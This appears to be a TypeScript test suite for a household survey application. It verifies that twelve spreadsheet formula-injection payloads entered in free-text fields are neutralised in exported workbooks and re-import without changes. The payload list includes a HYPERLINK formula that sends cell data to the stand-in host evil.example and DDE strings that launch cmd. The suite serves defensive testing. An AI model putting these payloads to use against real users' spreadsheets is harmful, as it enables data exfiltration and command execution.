/**
 * Issue 9 item 7 — formula injection. Twelve payloads in every free-text field (head name, address, member name and
 * relation, surveyor), entered through the API and through an import; every exported workbook (households.xlsx,
 * rates.xlsx, the annotated import) holds no formula element and no text cell a spreadsheet could run; exports
 * imported again report 0 changes.
 */
import { expect } from 'chai';
import { startTestServer, type TestServer } from '../support/server.ts';
import type { ApiClient } from '../support/http.ts';
import { col, surveyRows, waitForImport, workbookBuffer, importFile as importAndWait } from '../support/workbooks.ts';
import { scanWorkbook } from '../support/faults-xlsx.ts';
import { FULL, figure } from '../support/faults.ts';
import { cleanText } from '../../server/domain/text.ts';

export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=2+2',
  "=cmd|' /C notepad'!'A1'",
  '+1-1',
  '--3',
  '@A1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

async function commit(client: ApiClient, id: string) {
  expect((await client.post(`/api/imports/${id}/commit`, {})).status).to.equal(202);
  const done = await waitForImport(client, id);
  expect(done.status, JSON.stringify(done.failure)).to.equal('committed');
  return done;
}

const changes = (summary: any) => summary.households.new + summary.households.updated + summary.assessments.new + summary.assessments.updated;

describe('faults · item 7: formula injection', function () {
  this.timeout(240_000);
  let t: TestServer;
  let district: ApiClient;
  before(async () => {
    t = await startTestServer();
    district = await t.as('district');
  });
  after(async () => t?.close());

  it('payloads typed into every text field are stored as typed (NFC, trimmed), never refused as text', async () => {
    for (const [i, p] of PAYLOADS.entries()) {
      const res = await district.post('/api/households', {
        wardCode: '26764', householdCode: `FX-${i}`, area: 'urban', headName: p, address: p,
        members: [{ name: p, birthYear: 1970, sex: 'female', relation: p, hasHealthInsurance: true }],
      });
      expect(res.status, JSON.stringify(res.body)).to.equal(201);
      expect(res.body.headName).to.equal(cleanText(p));
      const a = await district.put(`/api/households/${res.body.id}/assessments/2017`, { income: { amount: 900_000, per: 'month' }, surveyor: p });
      expect(a.status, JSON.stringify(a.body)).to.equal(200);
    }
  });

  it('households.xlsx and rates.xlsx hold no formula and no runnable text', async () => {
    const hh = await district.get('/api/households.xlsx?round=2017');
    const rates = await district.get('/api/reports/rates.xlsx?round=2017');
    expect(hh.status).to.equal(200);
    expect(rates.status).to.equal(200);
    const a = await scanWorkbook(hh.body);
    const b = await scanWorkbook(rates.body);
    // Each payload appears (neutralised) at least as head name, address, member name and relation (and surveyor when the
    // layout has that column).
    const neutralised = a.texts.filter((v) => PAYLOADS.some((p) => v === `'${cleanText(p)}` || v === `'${p}`)).length;
    figure(7, 'exports of API-entered payloads', `households.xlsx: ${a.formulaElements} formula elements, ${a.unneutralised.length} runnable text cells of ${a.textCells}, ${neutralised} payload cells neutralised; rates.xlsx: ${b.formulaElements} formula elements, ${b.unneutralised.length} runnable text cells`);
    expect(a.formulaElements).to.equal(0);
    expect(a.unneutralised).to.deep.equal([]);
    expect(neutralised).to.be.at.least(PAYLOADS.length * 4);
    expect(b.formulaElements).to.equal(0);
    expect(b.unneutralised).to.deep.equal([]);
  });

  it('an imported file with the payloads: committed as text; its annotated copy has no formula and re-imports with 0 changes', async () => {
    const rows = surveyRows(PAYLOADS.length, { codePrefix: 'FI', wards: ['26767'] });
    rows[0]!.push('Người khảo sát');
    PAYLOADS.forEach((p, i) => {
      rows[i + 1]![col('Họ tên chủ hộ')] = p;
      rows[i + 1]![col('Địa chỉ')] = p;
      rows[i + 1]!.push(p);
    });
    const first = await importAndWait(district, await workbookBuffer([{ name: 'Hộ', rows }]));
    expect(first.status, JSON.stringify(first.failure)).to.equal('validated');
    expect(first.summary).to.include({ rows: PAYLOADS.length, valid: PAYLOADS.length });
    // Fetched before the commit: a committed import keeps no files (issue 13 item 3).
    const annotated = await district.get(`/api/imports/${first.id}/annotated.xlsx`);
    await commit(district, first.id);
    const stored = await district.get('/api/households?q=FI0000&pageSize=50');
    expect(stored.body.data.map((h: any) => h.headName).sort()).to.deep.equal(PAYLOADS.map(cleanText).sort());

    expect(annotated.status).to.equal(200);
    const scan = await scanWorkbook(annotated.body);
    const again = await importAndWait(district, annotated.body);
    expect(again.status, JSON.stringify(again.failure)).to.equal('validated');
    figure(7, 'import → annotated.xlsx → re-import', `${scan.formulaElements} formula elements, ${scan.unneutralised.length} runnable text cells of ${scan.textCells}; re-import: ${changes(again.summary)} changes (${again.summary.households.unchanged} households unchanged)`);
    expect(scan.formulaElements).to.equal(0);
    expect(scan.unneutralised).to.deep.equal([]);
    expect(changes(again.summary)).to.equal(0);
  });

  // Found by this suite: API-entered assessments now record facts.membersCount like the import does, the surveyor
  // is cleaned on input, and the importer strips the guard apostrophe before cleaning.
  it('households.xlsx imported back reports 0 changes (issue 6: the export round-trips through the import)', async () => {
    const exported = await district.get('/api/households.xlsx?round=2017');
    const again = await importAndWait(district, exported.body);
    const outcome = again.status === 'validated' ? `${changes(again.summary)} changes, ${again.summary.invalid} invalid rows` : `${again.status} ${again.failure?.code}: ${again.failure?.message?.en}`;
    figure(7, 'households.xlsx → re-import', outcome);
    expect(again.status, outcome).to.equal('validated');
    expect(again.summary.invalid, JSON.stringify(again.errors?.slice(0, 3))).to.equal(0);
    expect(changes(again.summary)).to.equal(0);
  });
});
